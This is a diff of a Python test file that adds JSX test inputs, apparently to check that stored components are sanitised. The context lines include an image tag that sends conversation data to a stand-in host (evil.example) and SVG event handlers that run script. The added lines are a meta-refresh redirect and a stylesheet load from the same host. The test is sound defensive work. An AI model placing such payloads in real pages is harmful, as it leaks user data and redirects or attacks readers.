@@ -101,6 +101,11 @@ def test_a_jsx_component_is_stored(text: str) -> None:
         # an image that sends what a reader fills in
         "import React from 'react';\n"
         '<img src="https://evil.example/p.png?d={conversation}" className="x" />',
+        # a page that moves on by itself, a style sheet from elsewhere
+        "import Head from 'next/head';\n"
+        '<meta httpEquiv="refresh" content="0; url=https://evil.example/" />',
+        "import Head from 'next/head';\n"
+        '<link rel="stylesheet" href="https://evil.example/x.css" />',
         # an SVG that runs or loads something
         "import React from 'react';\n<svg className=\"i\" onLoad={alert(1)}></svg>",
         'import React from \'react\';\n<svg className="i"><set attributeName="onmouseover" '
